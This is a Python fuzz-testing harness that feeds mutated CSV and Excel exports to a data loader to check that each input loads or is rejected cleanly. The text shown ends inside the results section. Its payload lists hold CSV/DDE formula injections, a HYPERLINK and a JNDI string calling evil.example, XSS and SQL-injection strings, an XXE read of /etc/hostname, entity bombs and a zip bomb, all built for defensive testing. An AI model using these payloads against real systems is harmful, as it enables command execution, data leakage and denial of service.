"""Fuzz the loader with hostile files: every outcome a load, a quarantine or a clear rejection.

``make fuzz`` (or ``python bench/fuzz.py [--cases 10000] [--seed 1] [--workers 2]``). On a
tiny generated county whose reference files are loaded into a base warehouse, each case
takes one real export (complaints, roster, transactions, staff, outlets, business types,
KPI targets), mutates it, and loads it into a fresh copy of the base with
:func:`etl.pipeline.load_paths`:

* cell and header mutations: formulas (``=cmd|' /C calc'!A0``), 1 MB values, 10,000
  columns, duplicate and reserved header names, garbage values, control characters,
  ragged rows, duplicate and conflicting rows, title rows, Chinese headers;
* written as CSV (UTF-8 with or without BOM, GB18030, GBK; comma, tab, semicolon, pipe;
  LF or CRLF) or as an Excel workbook (text or typed cells);
* byte mutations: truncation, random bytes, bit flips, a BOM in the middle, NUL bytes,
  stray quotes, CR line ends, wrong encodings (UTF-16, UTF-32, Big5, Shift-JIS, Latin-1,
  double-encoded UTF-8);
* workbook parts broken: sheet XML truncated or garbled, bad cell references, rows
  numbered past Excel's last, unknown shared strings, entity declarations, missing parts;
* whole files: empty, blank, a BOM alone, legacy .xls, random bytes, zip bombs, zips
  that are no workbook, empty workbooks and sheets.

Each outcome must be one of: loaded (rows conserved per ``etl_load``: read = loaded +
duplicate + quarantined + dropped, matching the rows in ``etl_quarantine`` and the fact
table), or rejected with a message and the warehouse byte-identical, or skipped (the
same bytes were loaded before). An exception escaping the loader, a changed warehouse
after a rejection, a staging file left behind, a count that does not add up, or a case
running past ``--timeout`` is a failure; its input is saved under
``bench/results/fuzz-<stamp>-inputs/`` and ``--case N --seed S`` replays it. Every
``--cli-every``-th case is also loaded by the real ``rccdash load`` in a process of its
own: its exit code must be 0, 1 or 2 and agree with the in-process outcome, with no
traceback and, for a rejection, one line starting with the file's name.

Counts are printed and written to ``bench/results/fuzz-<stamp>.json``. The tests
(``tests/etl/test_fuzz.py``) run a few hundred of the same cases.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import functools
import hashlib
import io
import json
import multiprocessing
import os
import queue
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
import traceback
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
os.environ.setdefault("GX_ANALYTICS_ENABLED", "false")

RESULTS = ROOT / "bench" / "results"
RCCDASH = [sys.executable, "-m", "rccdash.cli"]
REFERENCE_FILES = ("outlets", "staff", "business_types", "holidays", "kpi_targets")
# Seeds: the export, and how many of its data rows to keep (small files load fast).
SEED_ROWS = {
    "complaints": 40,
    "roster_2025-10": 60,
    "transactions_2025-10": 120,
    "staff": 40,
    "outlets": 10,
    "business_types": 20,
    "kpi_targets": 20,
}
# Fact tables carrying the load that brought each row, per kind.
FACT_TABLES = {
    "transactions": "fact_transaction",
    "roster": "fact_roster",
    "complaints": "fact_complaint",
}

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "\uff1d1+1",  # full-width equals sign: folded to "=" outside free text
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "'=1+1",
]
HOSTILE_NAMES = [
    "__row",
    "__drop",
    "__fail",
    "channel__src",
    "status__txt",
    '"',
    "a'b",
    "[/x]",
    "[bold]",
    "",
    "   ",
    "x\x00y",
    "=1+1",
    "行\n号",
    "N" * 5000,
    'x"); DROP TABLE etl_load; --',
    "\ufeffid",
    "rowid",
    "*",
    "\\",
    "\U0001f600",
    "\u202etxt",
    "NULL",
]
GARBAGE = [
    "",
    " ",
    "\u3000",
    "NULL",
    "N/A",
    "-",
    "1e309",
    "-0",
    "NaN",
    "inf",
    "9" * 40,
    "0x1F",
    "1,234,567.89",
    "１２３",
    "2025-02-30",
    "0000-00-00",
    "9999-12-31 23:59:60",
    "2025-10-09T25:61:00",
    "１９９１-０７-２９",
    "true",
    "是",
    "\x1b[31mred\x1b[0m",
    "\x07",
    "a\u2028b",
    "\x85",
    "\ufeff",
    "\u200b",
    "\ud800",  # a lone surrogate: written with surrogatepass, invalid UTF-8
    "\U0001f600",
    "\u202eevil",
    "'",
    '"',
    '""',
    '"x',
    "x\ny",
    "x\r\ny",
    "a,b",
    "a;b|c\td",
    "[/red]",
    ":cross_mark:",
    "%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "\\N",
    "合计",
    "小计",
    " 03101 ",
    "０３１０１",
]
# A rejection saying this is a crash turned into a message, not a clear rejection.
INTERNAL = r"PanicException|panicked|INTERNAL Error|Traceback|Segmentation"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXCEL_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]|[\ud800-\udfff]")
# How a rejection's message says what is wrong, checked in this order.
REASONS = [
    ("encoding", r"are not valid (utf-8|gb18030)|not valid UTF-8 after decoding"),
    ("zip_bomb", r"zip bomb|would expand to"),
    ("excel_limits", r"Excel's last|too big for the Excel reader"),
    ("not_a_workbook", r"not a readable \.xlsx workbook|legacy \.xls"),
    ("broken_sheet", r"sheet cannot be read|no sheet number|no sheet named"),
    ("empty", r" is empty$|: sheet .* is empty$"),
    ("no_data_rows", r"no data rows"),
    ("malformed_csv", r"malformed CSV|cannot parse as"),
    ("ragged_row", r"but the header has \d+"),
    ("duplicate_header", r"appears twice"),
    ("reserved_header", r"which is reserved"),
    ("nul_in_header", r"holds a NUL byte"),
    ("cr_line_ends", r"carriage return without a line feed"),
    ("no_header", r"looks like the header"),
    ("unmapped_header", r"header matches no export kind|required column\(s\) missing"),
    ("too_many_bad_rows", r"rows fail validation"),
]


# --------------------------------------------------------------------------- seeds


@dataclass(frozen=True)
class Seed:
    """One real export as a table: its file stem, header and (some of) its rows."""

    stem: str
    header: list[str]
    rows: list[list[str]]


@dataclass(frozen=True)
class Base:
    """The prepared warehouse (reference data loaded) and the exports to mutate."""

    db: Path
    seeds: list[Seed]
    aliases: dict[str, str]  # canonical header -> its first Chinese alias


def prepare(work: Path) -> Base:
    """Generate a tiny county, load its reference files into ``work/base.duckdb``."""
    from etl.pipeline import LoadOptions, load_paths
    from etl.profiles import load_profile
    from rccdash.synthetic.generate import GenerateOptions, generate_county

    exports = work / "county"
    generate_county(
        GenerateOptions(
            exports, outlets=2, months=1, start="2025-10", seed=5, volume=0.2, workers=1
        )
    )
    db = work / "base.duckdb"
    outcomes = load_paths(
        db, [exports / f"{n}.csv" for n in REFERENCE_FILES], LoadOptions(report=False)
    )
    bad = [(o.path.name, o.message) for o in outcomes if o.status != "loaded"]
    if bad:
        raise RuntimeError(f"the base warehouse did not load: {bad}")
    seeds = []
    for stem, keep in SEED_ROWS.items():
        with (exports / f"{stem}.csv").open(encoding="utf-8", newline="") as handle:
            header, *rows = list(csv.reader(handle))
        seeds.append(Seed(stem, header, rows[:keep]))
    profile = load_profile("default")
    aliases = {
        name: spec.aliases[0]
        for name, spec in profile.fields.items()
        if spec.aliases and not spec.aliases[0].isascii()
    }
    return Base(db, seeds, aliases)


# --------------------------------------------------------------------------- cases


@dataclass
class Case:
    """One hostile file: its name, bytes, and the mutations that made it."""

    index: int
    name: str
    data: bytes
    steps: list[str] = field(default_factory=list)


Table = tuple[list[str], list[list[str]]]


def _cell(rng: random.Random, rows: list[list[str]]) -> tuple[int, int] | None:
    if not rows or not rows[0]:
        return None
    r = rng.randrange(len(rows))
    return r, rng.randrange(len(rows[r])) if rows[r] else 0


def _scatter(rng: random.Random, rows: list[list[str]], values: list[str], most: int) -> None:
    """Put one of ``values`` into 1 to ``most`` random cells."""
    for _ in range(rng.randint(1, most)):
        at = _cell(rng, rows)
        if at and rows[at[0]]:
            rows[at[0]][at[1]] = rng.choice(values)


def t_formulas(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """Formula payloads in random cells."""
    _scatter(rng, rows, FORMULAS, 6)
    return "formula cells"


def t_huge_value(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """One value of a megabyte (ASCII, Chinese, or holding delimiters and line breaks)."""
    at = _cell(rng, rows)
    if not at or not rows[at[0]]:
        return "huge value (no rows)"
    kind = rng.choice(["ascii", "cjk", "mixed"])
    piece = {"ascii": "A", "cjk": "柜", "mixed": 'a,b;"c"\n|\t'}[kind]
    rows[at[0]][at[1]] = piece * ((1 << 20) // len(piece.encode()))
    return f"1 MB {kind} value in row {at[0] + 1}"


def t_many_columns(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """10,000 extra columns, empty or filled; or a header of 10,000 made-up names."""
    extra = 10_000
    if rng.random() < 0.3:
        header[:] = [f"c{i}" for i in range(extra)]
        for row in rows:
            row[:] = (row * (extra // max(len(row), 1) + 1))[:extra]
        return "10,000 made-up columns"
    filled = rng.random() < 0.5
    header.extend(f"extra_{i}" for i in range(extra))
    for row in rows:
        row.extend(["v"] * extra if filled else [""] * extra)
    return f"10,000 extra columns ({'filled' if filled else 'empty'})"


def t_duplicate_header(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """One header name repeated: exactly, in other case, padded, or full-width."""
    if len(header) < 2:
        return "duplicate header (too narrow)"
    i, j = rng.sample(range(len(header)), 2)
    name = header[i]
    variant = rng.choice(["same", "upper", "padded", "fullwidth"])
    header[j] = {
        "same": name,
        "upper": name.upper(),
        "padded": f"  {name}\t",
        "fullwidth": "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in name),
    }[variant]
    return f"header {j + 1} repeats {name!r} ({variant})"


def t_hostile_header(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """A header cell renamed to something reserved, quoted, empty or absurd."""
    if not header:
        return "hostile header (none)"
    j = rng.randrange(len(header))
    header[j] = rng.choice(HOSTILE_NAMES)
    return f"header {j + 1} named {header[j][:20]!r}"


def t_garbage(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """Garbage, control characters and lookalikes in random cells."""
    _scatter(rng, rows, GARBAGE, 10)
    return "garbage values"


def t_ragged(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """A row with a field too many or too few, or the header missing a column."""
    choice = rng.choice(["longer", "shorter", "header"])
    if choice == "header" and header:
        header.pop(rng.randrange(len(header)))
    elif rows:
        row = rows[rng.randrange(len(rows))]
        if choice == "longer":
            row.append(rng.choice(["x", ""]))
        elif row:
            row.pop()
    return f"ragged ({choice})"


def t_duplicate_rows(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """Rows repeated, or repeated with one value changed (a conflict on the key)."""
    if not rows:
        return "duplicate rows (none)"
    for _ in range(rng.randint(1, 5)):
        copy = list(rows[rng.randrange(len(rows))])
        if copy and rng.random() < 0.5:
            copy[rng.randrange(len(copy))] = rng.choice([*GARBAGE, "1", "2"])
        rows.insert(rng.randrange(len(rows) + 1), copy)
    return "duplicate or conflicting rows"


def t_blank_and_title(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """Blank rows among the data, whitespace rows, and title rows above the header."""
    for _ in range(rng.randint(1, 20)):
        rows.insert(rng.randrange(len(rows) + 1), [rng.choice(["", " ", "\t"])] * len(header))
    if rng.random() < 0.5:
        rows.insert(0, list(header))
        header[:] = ["某县农村信用合作联社 2025年10月 报表"] + [""] * (len(header) - 1)
        return "blank rows, title row"
    return "blank rows"


def t_no_rows(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """The header alone, or a subtotal row alone."""
    rows.clear()
    if rng.random() < 0.5:
        rows.append(["合计"] + [""] * (len(header) - 1))
        return "a 合计 row only"
    return "header only"


def t_shuffle_columns(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """The columns in another order (a valid file still)."""
    order = list(range(len(header)))
    rng.shuffle(order)
    header[:] = [header[i] for i in order]
    for row in rows:
        if len(row) == len(order):
            row[:] = [row[i] for i in order]
    return "columns shuffled"


def t_chinese_header(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """The Chinese header names of the default profile (a valid file still)."""
    aliases = _ALIASES
    header[:] = [aliases.get(name, name) for name in header]
    return "Chinese header"


def t_markup(rng: random.Random, header: list[str], rows: list[list[str]]) -> str:
    """Terminal markup in values and codes (an unknown code is quoted in advice)."""
    for _ in range(rng.randint(1, 4)):
        at = _cell(rng, rows)
        if at and rows[at[0]]:
            rows[at[0]][at[1]] = rng.choice(["[/x]", "[bold]x", "[red]03101[/red]", "\\[x]"])
    return "markup in values"


_ALIASES: dict[str, str] = {}
TABLE_OPS: list[tuple[Callable[[random.Random, list[str], list[list[str]]], str], float]] = [
    (t_formulas, 12),
    (t_huge_value, 4),
    (t_many_columns, 0.5),
    (t_duplicate_header, 6),
    (t_hostile_header, 8),
    (t_garbage, 14),
    (t_ragged, 6),
    (t_duplicate_rows, 6),
    (t_blank_and_title, 5),
    (t_no_rows, 2),
    (t_shuffle_columns, 3),
    (t_chinese_header, 4),
    (t_markup, 4),
]


def write_csv(rng: random.Random, header: list[str], rows: list[list[str]]) -> tuple[bytes, str]:
    """The table as delimited text in a random dialect and encoding."""
    delimiter = rng.choices([",", "\t", ";", "|"], [70, 15, 10, 5])[0]
    terminator = rng.choice(["\n", "\r\n"])
    quoting = rng.choices([csv.QUOTE_MINIMAL, csv.QUOTE_ALL], [85, 15])[0]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=terminator, quoting=quoting)
    writer.writerow(header)
    writer.writerows(rows)
    text = buffer.getvalue()
    encoding = rng.choices(["utf-8", "utf-8-sig", "gb18030", "gbk"], [65, 15, 12, 8])[0]
    errors = "surrogatepass" if encoding.startswith("utf-8") else "replace"
    suffix = rng.choices([".csv", ".txt", ".tsv"], [85, 10, 5])[0]
    name = f"{repr(delimiter)[1:-1]}-separated {encoding}"
    return text.encode(encoding, errors), suffix + "|" + name


def write_xlsx(rng: random.Random, header: list[str], rows: list[list[str]]) -> tuple[bytes, str]:
    """The table as an Excel workbook: text cells, or numbers and dates typed as Excel would."""
    import openpyxl

    typed = rng.random() < 0.5
    workbook = openpyxl.Workbook(write_only=True)
    if rng.random() < 0.05:
        workbook.create_sheet("空")  # an empty first sheet: the data is on the second
    sheet = workbook.create_sheet(rng.choice(["Sheet1", "交易明细", "a'b", "x" * 31]))
    for values in [header, *rows]:
        sheet.append([_xlsx_value(v, typed) for v in values])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue(), ".xlsx|" + ("typed cells" if typed else "text cells")


def _xlsx_value(value: str, typed: bool) -> object:
    """A cell value openpyxl can write; numbers and times typed when ``typed``."""
    value = EXCEL_ILLEGAL.sub("", value)
    if not typed or not value:
        return value or None
    with contextlib.suppress(ValueError):
        return int(value) if value.isdigit() and not value.startswith("0") else float(value)
    with contextlib.suppress(ValueError):
        import datetime as dt

        return dt.datetime.fromisoformat(value)
    return value


def b_truncate(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    cut = rng.randrange(len(data) + 1) if data else 0
    return data[:cut], f"truncated at byte {cut}"


def b_overwrite(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    out = bytearray(data)
    for _ in range(rng.randint(1, 16)):
        if out:
            out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out), "random bytes overwritten"


def b_insert(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    at = rng.randrange(len(data) + 1)
    return data[:at] + rng.randbytes(rng.randint(1, 64)) + data[at:], f"random bytes at {at}"


def b_delete(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    at = rng.randrange(len(data) + 1)
    return data[:at] + data[at + rng.randint(1, 256) :], f"bytes deleted at {at}"


def b_flip(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    out = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        if out:
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out), "bits flipped"


def b_bom_inside(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    lines = [i + 1 for i, b in enumerate(data) if b == 0x0A]
    at = rng.choice(lines) if lines and rng.random() < 0.5 else rng.randrange(len(data) + 1)
    return data[:at] + b"\xef\xbb\xbf" + data[at:], f"BOM at byte {at}"


def b_nul(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    out = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        out[rng.randrange(len(out) + 1) : 0] = b"\x00" * rng.randint(1, 4)
    return bytes(out), "NUL bytes"


def b_quotes(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    out = bytearray(data)
    for _ in range(rng.randint(1, 4)):
        out[rng.randrange(len(out) + 1) : 0] = b'"'
    return bytes(out), "stray quotes"


def b_line_ends(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    kind = rng.choice(["cr", "mixed"])
    if kind == "cr":
        return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r"), "CR line ends"
    lines = data.split(b"\n")
    return b"".join(line + rng.choice([b"\n", b"\r\n", b"\r"]) for line in lines), "mixed line ends"


def b_reencode(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    """The text in an encoding the loader does not read, or double-encoded."""
    text = data.decode("utf-8", "replace")
    codec = rng.choice(
        ["utf-16", "utf-16-le", "utf-32", "big5", "shift_jis", "latin-1", "cp1252", "mojibake"]
    )
    if codec == "mojibake":
        return text.encode("utf-8").decode("latin-1").encode("utf-8"), "double-encoded UTF-8"
    return text.encode(codec, "replace"), f"re-encoded as {codec}"


def b_mixed_encoding(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    """One line of a UTF-8 file in GBK (the usual hand-edited export)."""
    lines = data.split(b"\n")
    i = rng.randrange(len(lines))
    text = lines[i].decode("utf-8", "replace")
    lines[i] = (text + "柜员").encode("gbk", "replace")
    return b"\n".join(lines), f"line {i + 1} in GBK"


def b_tail(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    return data + rng.randbytes(rng.randint(1, 512)), "random tail"


BYTE_OPS = [
    (b_truncate, 12),
    (b_overwrite, 10),
    (b_insert, 6),
    (b_delete, 6),
    (b_flip, 6),
    (b_bom_inside, 8),
    (b_nul, 8),
    (b_quotes, 6),
    (b_line_ends, 5),
    (b_reencode, 8),
    (b_mixed_encoding, 5),
    (b_tail, 4),
]
SHEET = "xl/worksheets/sheet1.xml"


def _rewrite_part(data: bytes, name: str, change: Callable[[bytes], bytes | None]) -> bytes:
    """The workbook with one part changed (None: removed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == name:
                content = change(content)
                if content is None:
                    continue
            target.writestr(info.filename, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _sheet_name(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
    return sheets[-1] if sheets else SHEET


def x_parts(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    """A workbook part broken: the kind of damage a half-written or hand-made file has."""
    sheet = _sheet_name(data)
    choices: dict[str, tuple[str, Callable[[bytes], bytes | None]]] = {
        "sheet truncated": (sheet, lambda d: d[: rng.randrange(len(d))]),
        "sheet garbled": (sheet, lambda d: d[:200] + rng.randbytes(50) + d[200:]),
        "NUL in sheet": (sheet, lambda d: d.replace(b"<c ", b"<c \x00", 1)),
        "bad cell reference": (sheet, lambda d: re.sub(rb'r="A2"', b'r="ZZZZZZ2"', d, count=1)),
        "row past Excel's last": (
            sheet,
            lambda d: re.sub(rb'<row r="3"', b'<row r="2000000000"', d, count=1),
        ),
        "rows out of order": (sheet, lambda d: re.sub(rb'<row r="2"', b'<row r="9"', d, count=1)),
        "unknown shared string": (
            sheet,
            lambda d: re.sub(
                rb'<c r="B2"( s="\d+")?( t="\w+")?>.*?</c>', b'<c r="B2" t="s"><v>99999</v></c>', d
            ),
        ),
        "bad typed cells": (
            sheet,
            lambda d: re.sub(rb'<c r="C2"', b'<c r="C2" t="d"', d, count=1).replace(
                b"<v>", b"<v>not a number", 1
            ),
        ),
        "error cells": (sheet, lambda d: re.sub(rb'<c r="A2"', b'<c r="A2" t="e"', d, count=1)),
        "entity expansion": (
            sheet,
            lambda d: (
                b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
                + b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                + b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
                + b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
                + re.sub(rb"^<\?xml[^>]*\?>", b"", d).replace(b"<t>", b"<t>&d;", 1)
            ),
        ),
        "external entity": (
            sheet,
            lambda d: (
                b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
                + re.sub(rb"^<\?xml[^>]*\?>", b"", d).replace(b"<t>", b"<t>&x;", 1)
            ),
        ),
        "sheet missing": (sheet, lambda d: None),
        "workbook.xml missing": ("xl/workbook.xml", lambda d: None),
        "workbook.xml truncated": ("xl/workbook.xml", lambda d: d[: len(d) // 2]),
        "content types garbled": ("[Content_Types].xml", lambda d: b"<Types"),
        "styles garbled": ("xl/styles.xml", lambda d: d[: len(d) // 3]),
        "dimension lies": (
            sheet,
            lambda d: d.replace(b"<sheetData>", b'<dimension ref="A1:A1"/><sheetData>', 1),
        ),
        "entity bomb": (
            sheet,
            lambda d: (
                b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "aaaaaaaaaa">'
                + b"".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">'.encode() for i in range(1, 10))
                + b"]>"
                + re.sub(rb"^<\?xml[^>]*\?>", b"", d).replace(b"<t>", b"<t>&a9;", 1)
            ),
        ),
    }
    what = rng.choice(sorted(choices))
    part, change = choices[what]
    try:
        return _rewrite_part(data, part, change), what
    except zipfile.BadZipFile:
        return data, f"{what} (not a zip already)"


@dataclass(frozen=True)
class Special:
    """A whole file that is no export at all."""

    name: str
    suffix: str
    make: Callable[[random.Random], bytes]
    weight: float
    heavy: bool = False  # seconds, not milliseconds: left out of the quick in-suite runs


def _zip_bomb(rng: random.Random) -> bytes:
    """A valid workbook whose sheet inflates a thousandfold to 80 MB (cached per process)."""
    global _BOMB
    if _BOMB is None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
            archive.writestr("_rels/.rels", _RELS)
            archive.writestr("xl/workbook.xml", _WORKBOOK)
            archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
            pad = b" " * (80 << 20)
            archive.writestr(
                SHEET,
                _SHEET_START + b'<row r="1"><c r="A1" t="inlineStr"><is>'
                b"<t>a</t></is></c></row>" + pad + _SHEET_END,
            )
        _BOMB = out.getvalue()
    return _BOMB


def _workbook(sheet_data: bytes) -> bytes:
    """A minimal valid workbook around the XML of one sheet's rows."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr(SHEET, _SHEET_START + sheet_data + _SHEET_END)
    return out.getvalue()


def _row(number: int, *cells: str, column: str = "") -> bytes:
    values = "".join(
        f'<c r="{column or chr(65 + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(cells)
    )
    return f'<row r="{number}">{values}</row>'.encode()


def _cell_bomb() -> bytes:
    """A header reaching Excel's last column over 3,200 rows of one cell: 52 million cells."""
    header = _row(1, "a", "b").replace(
        b"</row>", b'<c r="XFD1" t="inlineStr"><is><t>z</t></is></c></row>'
    )
    return _workbook(header + b"".join(_row(n, "x") for n in range(2, 3_200)))


def _empty_workbook(rng: random.Random) -> bytes:
    import openpyxl

    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return buffer.getvalue()


def _zip_of_csv(rng: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("complaints.csv", "complaint_id,received_at\nA,2025-10-01\n")
    return out.getvalue()


_BOMB: bytes | None = None
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
    '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target='
    '"xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/'
    'sheet1.xml"/></Relationships>'
)
_SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org'
    b'/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_END = b"</sheetData></worksheet>"

SPECIALS = [
    Special("empty file", ".csv", lambda rng: b"", 3),
    Special("empty .xlsx", ".xlsx", lambda rng: b"", 2),
    Special(
        "blank lines", ".csv", lambda rng: rng.choice([b"\n\n\n", b" \r\n\t\r\n", b",,,\n,,\n"]), 3
    ),
    Special("BOM only", ".csv", lambda rng: b"\xef\xbb\xbf", 2),
    Special("legacy .xls", ".xlsx", lambda rng: OLE_MAGIC + rng.randbytes(2000), 2),
    Special("legacy .xls as .csv", ".csv", lambda rng: OLE_MAGIC + rng.randbytes(2000), 1),
    Special("random bytes", ".csv", lambda rng: rng.randbytes(rng.randint(1, 65536)), 4),
    Special("random .xlsx", ".xlsx", lambda rng: rng.randbytes(rng.randint(1, 65536)), 3),
    Special("zip magic, then noise", ".xlsx", lambda rng: b"PK\x03\x04" + rng.randbytes(3000), 2),
    Special("zip of a CSV", ".xlsx", _zip_of_csv, 2),
    Special("zip of a CSV, named .csv", ".csv", _zip_of_csv, 1),
    Special("empty workbook", ".xlsx", _empty_workbook, 3),
    Special("title row only", ".xlsx", lambda rng: _workbook(_row(1, "某县信用联社 报表")), 2),
    Special("zip bomb", ".xlsx", _zip_bomb, 2),
    Special(
        "row past Excel's last",
        ".xlsx",
        lambda rng: _workbook(_row(1, "complaint_id", "x") + _row(2_000_000_000, "A", "b")),
        1,
        heavy=True,
    ),
    Special("sparse wide sheet (cell bomb)", ".xlsx", lambda rng: _cell_bomb(), 0.3, heavy=True),
]


def make_case(base: Base, seed: int, index: int, *, heavy: bool = True) -> Case:
    """Case ``index`` of run ``seed``: always the same bytes for the same pair."""
    rng = random.Random(f"{seed}:{index}")
    _ALIASES.update(base.aliases)
    family = rng.choices(["table", "bytes", "both", "parts", "special"], [34, 30, 16, 10, 10])[0]
    specials = [s for s in SPECIALS if heavy or not s.heavy]
    if family == "special":
        special = rng.choices(specials, [s.weight for s in specials])[0]
        stem = rng.choice(base.seeds).stem
        return Case(index, _name(rng, stem, special.suffix), special.make(rng), [special.name])
    source = rng.choice(base.seeds)
    header, rows = list(source.header), [list(r) for r in source.rows]
    steps = [source.stem]
    if family in ("table", "both"):
        ops, weights = zip(*TABLE_OPS, strict=True)
        for op in rng.choices(ops, weights, k=rng.choice([1, 1, 2, 3])):
            steps.append(op(rng, header, rows))
    # Byte mutations of a workbook mostly break the zip's checksums, one outcome: fewer.
    xlsx = family == "parts" or rng.random() < (0.25 if family == "table" else 0.1)
    data, written = (write_xlsx if xlsx else write_csv)(rng, header, rows)
    suffix, how = written.split("|", 1)
    steps.append(how)
    if family in ("bytes", "both"):
        ops, weights = zip(*BYTE_OPS, strict=True)
        for op in rng.choices(ops, weights, k=rng.choice([1, 1, 2])):
            data, what = op(rng, data)
            steps.append(what)
    if family == "parts":
        data, what = x_parts(rng, data)
        steps.append(what)
    return Case(index, _name(rng, source.stem, suffix), data, steps)


def _name(rng: random.Random, stem: str, suffix: str) -> str:
    """The file name: the export's own, sometimes with awkward characters around it."""
    if rng.random() < 0.85:
        return stem + suffix
    before = rng.choice(["", "名 字 ", "a'b ", "[x] ", "[bold]", "-", "x\ny ", "%s "])
    return before + stem + suffix


# --------------------------------------------------------------------------- running


@dataclass
class Result:
    """What one case did, and anything wrong with it."""

    index: int
    name: str
    steps: list[str]
    outcome: str = ""  # loaded | loaded_with_quarantine | rejected:<reason> | skipped | crash
    message: str = ""
